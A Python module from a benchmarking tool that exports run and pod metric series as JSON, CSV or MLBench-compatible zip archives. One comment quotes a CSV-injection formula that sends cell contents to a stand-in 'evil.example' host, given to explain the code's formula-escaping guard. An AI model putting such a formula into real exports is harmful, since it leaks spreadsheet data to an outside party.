"""Downloads of a run's or a pod's series: JSON, CSV, or a zip.

The zip holds MLBench's flat layout at its root, so scripts written for ``mlbench download``
read it unchanged: ``result_<metric>.json`` per run metric, ``<pod>_<metric>.json`` per resource
metric of each of the run's pods, each a JSON list of ``{"date", "value", "cumulative"}`` in
date order (dates to the millisecond, values as text, as MLBench's dashboard wrote them), and
``official_result.txt`` holding the run's ``TaskResult`` sentence. Beside it, under
``run-<id>/``, distbench's own files: every point with its metadata, the pods' series, the
run's record (``run.json``) and distbench's result line.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from typing import Literal

import sqlalchemy as sa
from fastapi.responses import Response

from distbench.api.encode import JSON_TYPE, points_as_dicts
from distbench.metric_value import value_text
from distbench.store import metrics as metric_store
from distbench.store import pods as pod_store
from distbench.store import summarize as summarized
from distbench.store.metrics import PointRow, Series
from distbench.store.records import RunRecord
from distbench.timefmt import EPOCH

Format = Literal["json", "csv", "zip"]


def _attachment(body: bytes | str, media_type: str, filename: str) -> Response:
    return Response(
        body,
        media_type=media_type,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


# A spreadsheet runs a cell that starts with one of these as a formula: a metric named
# =HYPERLINK("https://evil.example/?"&A1, "open") would phone home when the export is opened.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(text: str) -> str:
    """A text field (metric name, owner, metadata) as a CSV cell no spreadsheet evaluates: a
    leading ``'`` where it would start a formula (OWASP's advice for CSV injection). Numbers
    (the value column's numbers, e.g. -1.5) are left as they are."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def _csv(series: Series, *, owner_column: str, owner: str) -> str:
    buffer = io.StringIO()
    # RFC 4180's CRLF: with "\n" alone the writer left a "\r" inside a name unquoted, which
    # split the row in two for every reader.
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([owner_column, "metric", "date", "value", "cumulative", "metadata"])
    for name, points in series.items():
        for raw, point in zip(points, points_as_dicts(points, with_details=True), strict=True):
            # A text value (MLBench's TaskResult sentence) is text like the name: guarded.
            value = text_cell(point["value"]) if isinstance(raw[1], str) else point["value"]
            writer.writerow(
                [
                    text_cell(owner),
                    text_cell(name),
                    point["date"],
                    value,
                    point["cumulative"],
                    text_cell(point["metadata"]),
                ]
            )
    return buffer.getvalue()


def _as_json(series: Series, *, with_details: bool) -> dict[str, object]:
    return {
        name: points_as_dicts(points, with_details=with_details) for name, points in series.items()
    }


def result_line(run: RunRecord) -> str:
    """The run's result in one line (MLBench's ``official_result.txt``)."""
    summary = run.job_metadata.get("result")
    if isinstance(summary, dict) and summary:
        fields = ", ".join(f"{key}={value}" for key, value in summary.items())
        return f"run {run.id} ({run.name}) {run.state}: {fields}\n"
    return f"run {run.id} ({run.name}) {run.state}: no result recorded\n"


def run_export(
    *,
    conn: sa.Connection,
    run: RunRecord,
    series: Series,
    fmt: Format,
    spec: metric_store.SeriesQuery,
    summarize: int | None = None,
) -> Response:
    stem = f"run-{run.id}"
    if fmt == "csv":
        return _attachment(
            _csv(series, owner_column="run_id", owner=str(run.id)),
            "text/csv; charset=utf-8",
            f"{stem}.csv",
        )
    if fmt == "json":
        body = json.dumps(_as_json(series, with_details=True), indent=1)
        return _attachment(body, JSON_TYPE, f"{stem}.json")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zipped:
        archive = _Archive(zipped)
        archive.add_mlbench_series("result", series)
        for name, points in series.items():
            archive.write(
                f"{stem}/{_safe(name)}.json",
                json.dumps(points_as_dicts(points, with_details=True), indent=1),
            )
        for pod_name in pod_store.pod_names_of_run(conn=conn, run_id=run.id):
            pod_series = summarized.read_series(
                conn=conn, pod_name=pod_name, spec=spec, summarize=summarize
            )
            archive.add_mlbench_series(pod_name, pod_series)
            for name, points in pod_series.items():
                archive.write(
                    f"{stem}/pods/{_safe(pod_name)}/{_safe(name)}.json",
                    json.dumps(points_as_dicts(points, with_details=False), indent=1),
                )
        archive.write("official_result.txt", official_result(conn=conn, run=run))
        archive.write(f"{stem}/official_result.txt", result_line(run))
        archive.write(f"{stem}/run.json", json.dumps(_run_summary(run), indent=1))
    return _attachment(buffer.getvalue(), "application/zip", f"{stem}.zip")


# MLBench's workers post the goal's sentence as "TaskResult @ 0" (rank 0), the only name its
# download read; "TaskResult" is the same result posted by a worker that adds no rank.
TASK_RESULT_NAMES = ("TaskResult @ 0", "TaskResult")


def official_result(*, conn: sa.Connection, run: RunRecord) -> str:
    """MLBench's ``official_result.txt``: the run's latest ``TaskResult`` as posted, whatever
    the download's filters; without one, a line that says so (MLBench left the file out, which
    readers could not tell from a broken download)."""
    posted = metric_store.read_series(
        conn=conn, run_id=run.id, spec=metric_store.SeriesQuery(names=TASK_RESULT_NAMES)
    )
    for name in TASK_RESULT_NAMES:
        if posted.get(name):
            return value_text(posted[name][-1][1])
    return (
        f"No TaskResult was posted for run {run.id} ({run.name}, {run.state}): MLBench's "
        f"workers post it when the goal is reached. {result_line(run)}"
    )


class _Archive:
    """A zip whose entry names are unique: metric names that become one file name (``a/b`` and
    ``a_b``) get a ``~2`` suffix, where zipfile would store two entries under one name (and
    unzip keep only the last)."""

    def __init__(self, zipped: zipfile.ZipFile) -> None:
        self.zipped = zipped
        self.used: set[str] = set()

    def write(self, entry: str, body: str) -> None:
        stem, dot, suffix = entry.rpartition(".")
        unique, copy = entry, 1
        while unique in self.used:
            copy += 1
            unique = f"{stem}~{copy}{dot}{suffix}"
        self.used.add(unique)
        self.zipped.writestr(unique, body)

    def add_mlbench_series(self, prefix: str, series: Series) -> None:
        """Series as MLBench's download wrote them: ``<prefix>_<metric>.json`` at the root,
        TaskResult left out (it is ``official_result.txt``)."""
        for name, points in series.items():
            if "TaskResult" in name or not points:
                continue
            body = json.dumps([_mlbench_point(point) for point in points], indent=4)
            self.write(f"{_flat(f'{prefix}_{name}')}.json", body)


def _flat(stem: str) -> str:
    # MLBench used the name as it was ("result_val_global_Prec@1 @ 0.json"); only what would
    # make a folder or an unprintable name is replaced.
    return "".join("_" if ch in "/\\" or not ch.isprintable() else ch for ch in stem)


def _mlbench_point(point: PointRow) -> dict[str, object]:
    date_us, value, cumulative, _metadata = point
    return {"date": mlbench_date(date_us), "value": value_text(value), "cumulative": cumulative}


def mlbench_date(date_us: int) -> str:
    """A date as MLBench's download wrote it (Django's JSON encoder): milliseconds, ``Z``, and
    no fraction at all on a whole second."""
    moment = EPOCH + dt.timedelta(microseconds=date_us)
    text = moment.strftime("%Y-%m-%dT%H:%M:%S")
    if moment.microsecond:
        text += f".{moment.microsecond // 1000:03d}"
    return text + "Z"


def pod_export(*, pod_name: str, series: Series, fmt: Format) -> Response:
    if fmt == "csv":
        return _attachment(
            _csv(series, owner_column="pod_name", owner=pod_name),
            "text/csv; charset=utf-8",
            f"{pod_name}.csv",
        )
    body = json.dumps(_as_json(series, with_details=False), indent=1)
    if fmt == "json":
        return _attachment(body, JSON_TYPE, f"{pod_name}.json")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zipped:
        archive = _Archive(zipped)
        # MLBench's download of a pod: its series as result_<metric>.json.
        archive.add_mlbench_series("result", series)
        for name, points in series.items():
            archive.write(
                f"{_safe(pod_name)}/{_safe(name)}.json",
                json.dumps(points_as_dicts(points, with_details=False), indent=1),
            )
    return _attachment(buffer.getvalue(), "application/zip", f"{pod_name}.zip")


def _safe(name: str) -> str:
    """A metric name as a file name (names like ``val_global_Prec@1 @ 0`` carry odd characters)."""
    return "".join(ch if ch.isalnum() or ch in "-_.@" else "_" for ch in name) or "_"


# The record's fields a download's ``run.json`` has always held (a file format: not every
# field, and dates not at all).
RUN_JSON_FIELDS = (
    "id",
    "name",
    "state",
    "job_id",
    "num_workers",
    "num_cpus",
    "max_bandwidth",
    "benchmark",
    "job_metadata",
)


def _run_summary(run: RunRecord) -> dict[str, object]:
    return {name: getattr(run, name) for name in RUN_JSON_FIELDS}
